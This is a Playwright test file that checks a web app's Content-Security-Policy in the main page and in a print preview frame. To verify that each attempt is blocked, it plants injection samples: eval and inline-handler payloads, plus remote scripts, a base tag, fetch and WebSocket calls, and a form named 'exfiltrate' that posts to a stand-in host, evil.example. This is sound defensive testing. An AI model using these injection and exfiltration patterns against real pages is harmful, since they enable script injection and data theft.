/*
 * Security suite, Content-Security-Policy (issue 8, point 5), beside security.spec.ts, which shows
 * that an injected inline <script> and <style> are blocked in the app's page. Here: everything
 * else a script injected into the page would try (eval and its relatives, inline handlers,
 * javascript: URLs, style attributes, remote scripts, styles, images, frames, fetch, sockets,
 * workers, <base>, forms), in the app's page and in the preview frame (print.html), which is
 * served with the same header. Each is refused by the policy itself, before any request: the
 * harness's record of requests that tried to leave the app stays empty.
 */
import type { Frame, Page } from '@playwright/test';
import { HARNESS_ORIGIN, type AppHarness } from './harness/app-harness';
import { expect, test } from './fixtures';
import { ReleaseEditor } from './pages/release-editor';
import { ReleasesPage } from './pages/releases-page';

interface Attempts {
  /** What ran although it should not have. */
  ran: string[];
  /** The directives the page reported violated. */
  violated: string[];
  /** The URLs those reports blocked. */
  blocked: string[];
}

/**
 * Tries every way to run code or load something from elsewhere, in the page or frame given.
 * `submitForm`: a refused form submission leaves a frame on Chromium's error page, so the preview
 * is spared it (its sanitiser strips <form> from whatever it shows: print-layout.spec.ts).
 */
async function tryEverything(target: Page | Frame, submitForm: boolean): Promise<Attempts> {
  return target.evaluate(async (submit) => {
    const ran: string[] = [];
    const violated: string[] = [];
    const blocked: string[] = [];
    const scope = window as unknown as Record<string, unknown>;
    document.addEventListener('securitypolicyviolation', (event) => {
      violated.push(event.effectiveDirective);
      blocked.push(event.blockedURI);
    });
    const attempt = (label: string, action: () => unknown) => {
      try {
        action();
      } catch {
        // Refused by throwing (EvalError for eval, SecurityError for some): refused all the same.
      }
      void label;
    };
    // Code that Playwright evaluates is exempt from the eval check, as DevTools' console is: the
    // attempts run from a timer, as the page's own code would.
    await new Promise<void>((resolve) =>
      setTimeout(() => {
        attempt('eval', () => eval('window.__ranEval = true'));
        // eslint-disable-next-line @typescript-eslint/no-implied-eval, @typescript-eslint/no-unsafe-call -- the attempt under test
        attempt('new Function', () => new Function('window.__ranFunction = true')());
        resolve();
      }, 0),
    );
    attempt('setTimeout with a string', () =>
      (setTimeout as unknown as (code: string, delay: number) => number)('window.__ranTimeout = true', 0),
    );
    const holder = document.createElement('div');
    holder.innerHTML = [
      '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.__ranHandler = true">',
      '<div id="styled" style="display: none">styled</div>',
      '<script src="https://evil.example/x.js"></script>',
      '<link rel="stylesheet" href="https://evil.example/x.css">',
      '<img src="https://evil.example/pixel.png">',
      '<iframe src="https://evil.example/frame.html"></iframe>',
      '<object data="https://evil.example/x.swf"></object>',
      '<form id="exfiltrate" action="https://evil.example/collect" method="post"><input name="a" value="b"></form>',
    ].join('');
    document.body.append(holder);
    // innerHTML never runs a <script>; a script element made by the DOM would, were it allowed.
    const remote = document.createElement('script');
    remote.src = 'https://evil.example/y.js';
    document.body.append(remote);
    const base = document.createElement('base');
    base.href = 'https://evil.example/';
    document.head.append(base);
    attempt('fetch', () => void fetch('https://evil.example/api').catch(() => undefined));
    attempt('WebSocket', () => new WebSocket('wss://evil.example/socket'));
    attempt('worker from a blob', () => {
      const blob = new Blob(['postMessage(1)'], { type: 'text/javascript' });
      return new Worker(URL.createObjectURL(blob));
    });
    attempt('javascript: URL', () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.__ranJavascriptUrl = true';
      document.body.append(link);
      link.click();
    });
    if (submit) {
      attempt('form submission', () =>
        (document.getElementById('exfiltrate') as HTMLFormElement).requestSubmit(),
      );
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    for (const name of ['__ranEval', '__ranFunction', '__ranTimeout', '__ranHandler', '__ranJavascriptUrl']) {
      if (scope[name]) ran.push(name);
    }
    if (getComputedStyle(document.getElementById('styled')!).display === 'none') ran.push('style attribute');
    base.remove();
    holder.remove();
    remote.remove();
    return { ran, violated, blocked };
  }, submitForm);
}

/** What Chromium logs for each refusal above, as it says it. */
const refusalLogs = [
  'unsafe-eval',
  'inline event handler',
  'inline style',
  'x.css',
  'y.js',
  'base URI',
  'evil.example/api',
  'evil.example/socket',
  'worker',
  'pixel.png',
  'Framing',
  'x.swf',
  'form data',
];

/**
 * Waits until the console has reported each refusal caused on purpose, then forgets them: the
 * fixture fails a test on any CSP error it did not expect.
 */
async function forgetExpectedRefusals(app: AppHarness, expected = refusalLogs): Promise<void> {
  const logged = () => expected.filter((text) => app.pageErrors.some((error) => error.includes(text)));
  await expect.poll(logged).toEqual(expected);
  app.pageErrors.splice(0);
}

const expectedViolations = [
  'script-src', // eval, new Function, setTimeout(string)
  'script-src-attr', // the onload attribute
  'style-src-attr', // the style attribute
  'script-src-elem', // the remote scripts
  'style-src-elem', // the remote stylesheet
  'img-src',
  'frame-src',
  'object-src',
  'connect-src', // fetch and WebSocket
  'worker-src',
  'base-uri',
  'form-action',
];

test('the app’s page runs no injected code and loads nothing from elsewhere', async ({ app }) => {
  const attempts = await tryEverything(app.page, true);
  expect(attempts.ran).toEqual([]);
  expect(attempts.violated).toEqual(expect.arrayContaining(expectedViolations));
  expect(attempts.blocked.filter((uri) => uri.includes('evil.example')).length).toBeGreaterThan(5);
  expect(app.blockedRequests).toEqual([]);
  // Read from the page itself: Playwright's locators would wait for the refused form submission,
  // which it counts as a navigation that never finishes.
  expect(app.page.url()).toBe(`${HARNESS_ORIGIN}/index.html`);
  expect(await app.page.evaluate(() => document.querySelector('main h1')?.textContent)).toBe(
    'Press releases',
  );
  await forgetExpectedRefusals(app);
});

test('the preview frame (print.html) runs no injected code and loads nothing from elsewhere', async ({
  app,
}) => {
  await new ReleasesPage(app.page).createDraft('A release to preview');
  const editor = new ReleaseEditor(app.page);
  await expect(editor.previewText()).toContainText('A release to preview');
  const frame = app.page.frames().find((candidate) => candidate.url().endsWith('/print.html'));
  expect(frame, 'the preview frame').toBeDefined();
  const attempts = await tryEverything(frame!, false);
  expect(attempts.ran).toEqual([]);
  expect(attempts.violated).toEqual(
    expect.arrayContaining(expectedViolations.filter((directive) => directive !== 'form-action')),
  );
  const inline = await frame!.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__ranInline = true';
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 100));
    return (window as unknown as { __ranInline?: boolean }).__ranInline ?? false;
  });
  expect(inline).toBe(false);
  expect(frame!.url()).toBe(`${HARNESS_ORIGIN}/print.html`);
  expect(app.blockedRequests).toEqual([]);
  await forgetExpectedRefusals(app, [...refusalLogs.filter((text) => text !== 'form data'), 'inline script']);
});
